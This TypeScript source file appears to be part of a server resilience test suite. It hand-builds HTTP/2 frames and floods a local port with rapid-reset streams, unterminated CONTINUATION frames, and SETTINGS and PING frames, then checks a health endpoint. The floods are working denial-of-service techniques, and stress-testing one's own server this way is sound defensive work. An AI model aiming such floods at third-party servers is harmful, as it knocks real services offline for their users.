import { delay } from "@std/async/delay";
import { concat } from "@std/bytes/concat";
import type { Attack } from "./attack.ts";
import { closeAll, silent } from "./clients.ts";

const MILLISECONDS = 4000;
const CONNECTIONS = 4;
/** Frames that are sent together. */
const FRAMES = 200;

/** Types and flags of frames (RFC 9113, 6). */
const HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, CONTINUATION = 9;
const END_STREAM = 1, END_HEADERS = 4;

/** `GET /` by `http`, of the static table (RFC 7541, appendix A). */
const GET = Uint8Array.of(0x82, 0x84, 0x86);
/** A header `a: b`, which is added to no table. */
const FIELD = Uint8Array.of(0, 1, 0x61, 1, 0x62);
const CANCEL = Uint8Array.of(0, 0, 0, 8);
const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

function frame(type: number, flags: number, stream: number, body: Uint8Array) {
  const head = new Uint8Array(9), view = new DataView(head.buffer);
  view.setUint32(0, body.length << 8 | type);
  view.setUint8(4, flags);
  view.setUint32(5, stream);
  return concat([head, body]);
}

/** The frames to send next, of which the first ones have these numbers. */
type Flood = (first: number) => Uint8Array[];

const FLOODS: Record<string, Flood> = {
  "requests that are reset at once": (first) =>
    Array.from({ length: FRAMES }, (_, i) => {
      const stream = 2 * (first + i) + 1;
      return concat([
        frame(HEADERS, END_STREAM | END_HEADERS, stream, GET),
        frame(RST_STREAM, 0, stream, CANCEL),
      ]);
    }),
  "CONTINUATION without end": (first) => [
    ...first === 0 ? [frame(HEADERS, END_STREAM, 1, GET)] : [],
    ...Array.from({ length: FRAMES }, () => frame(CONTINUATION, 0, 1, FIELD)),
  ],
  "SETTINGS": () =>
    Array.from(
      { length: FRAMES },
      () => frame(SETTINGS, 0, 0, new Uint8Array(0)),
    ),
  "PING": () =>
    Array.from({ length: FRAMES }, () => frame(PING, 0, 0, new Uint8Array(8))),
};

/** Sends until the time is over, or the server hangs up. */
async function sendOn(port: number, flood: Flood): Promise<boolean> {
  const connection = await silent(port, PREFACE);
  const end = performance.now() + MILLISECONDS;
  const timer = setTimeout(() => closeAll([connection]), MILLISECONDS);
  const reading = (async () => {
    const buffer = new Uint8Array(65536);
    while (await connection.read(buffer) !== null);
  })().catch(() => {});
  try {
    for (let first = 0; performance.now() < end; first += FRAMES) {
      const bytes = concat(flood(first));
      for (let at = 0; at < bytes.length;) {
        at += await connection.write(bytes.subarray(at));
      }
      // For the one who only watches, from this program, too.
      await delay(0);
    }
  } catch {
    // Hung up on, or the time is over.
  }
  const isCut = performance.now() < end;
  clearTimeout(timer);
  closeAll([connection]);
  await reading;
  return isCut;
}

/** Floods of HTTP/2 without TLS, on the port of HTTP/1.1. */
export const HTTP2: readonly Attack[] = Object.entries(FLOODS).map((
  [what, flood],
) => ({
  tried: `HTTP/2: ${what}, ${CONNECTIONS} connections, 4 s`,
  expected: "no gap, whether it hangs up or not",
  async act({ port, address }) {
    const cuts = await Promise.all(
      Array.from({ length: CONNECTIONS }, () => sendOn(port, flood)),
    );
    const { ok, body } = await fetch(`${address}/healthz`);
    await body?.cancel();
    const cut = cuts.filter(Boolean).length;
    return { came: `${cut} hung up on`, holds: ok };
  },
}));
